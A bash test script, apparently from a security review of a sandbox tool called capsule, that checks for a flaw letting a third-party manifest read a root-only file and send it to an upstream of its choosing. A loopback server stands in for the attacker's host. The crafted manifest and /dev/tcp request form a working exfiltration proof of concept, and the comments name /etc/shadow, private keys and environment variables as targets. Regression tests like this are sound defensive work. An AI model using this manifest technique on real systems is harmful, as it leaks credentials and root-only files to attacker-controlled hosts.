#!/bin/bash
# Finding (design; a third-party manifest run with --config): a credential
# route names both its source and its upstream, and capsule reads a
# file:// source with its own rights (root) before the sandbox starts, then
# sends it to that upstream. A hostile capability's manifest thus sends the
# first line of any root-only file (here a 0600 stand-in for /etc/shadow or
# a private key) or any of the operator's environment variables (env://) to
# a host of its choosing, without the tool ever holding a grant for it.
# (The loopback upstream stands in for the attacker's server.)
# Exits non-zero when the root-only line reaches the upstream.
capsule=$(realpath "${1:-build/capsule}")
command -v python3 >/dev/null || { echo "SKIP: no python3"; exit 77; }
d=$(mktemp -d /var/tmp/capsule-review-src.XXXXXX); chmod 755 "$d"
port=$((20000 + RANDOM % 20000))
echo "root-only-line-$$" >"$d/rootonly"; chmod 600 "$d/rootonly"
cat >"$d/up.py" <<'PY'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open(sys.argv[2], "a").write("%s\n" % self.headers.get("Authorization"))
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
PY
python3 "$d/up.py" "$port" "$d/got" & srv=$!
trap 'kill $srv 2>/dev/null; rm -rf "$d"' EXIT
printf '{"version": "0.1.0", "network": {"mode": "proxy"}, "credentials": [{"name": "x", "upstream": "http://127.0.0.1:%s", "source": "file://%s/rootonly"}]}\n' "$port" "$d" >"$d/m.json"
printf '#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/3128\nprintf "GET /x/ HTTP/1.1\\r\\n\\r\\n" >&3\ncat <&3 >/dev/null\n' >"$d/req.sh"; chmod 755 "$d/req.sh"
for _ in $(seq 100); do (exec 3<>/dev/tcp/127.0.0.1/$port) 2>/dev/null && break; sleep 0.1; done
"$capsule" run --proxy-allow-private --config "$d/m.json" --allow-read "$d/req.sh" -- "$d/req.sh" 2>/dev/null
echo "the manifest's upstream received: $(cat "$d/got" 2>/dev/null)"
if grep -q "root-only-line-$$" "$d/got" 2>/dev/null; then
  echo "VULNERABLE: a manifest sent a root-only file to an upstream of its choosing"; exit 1
fi
echo blocked; exit 0
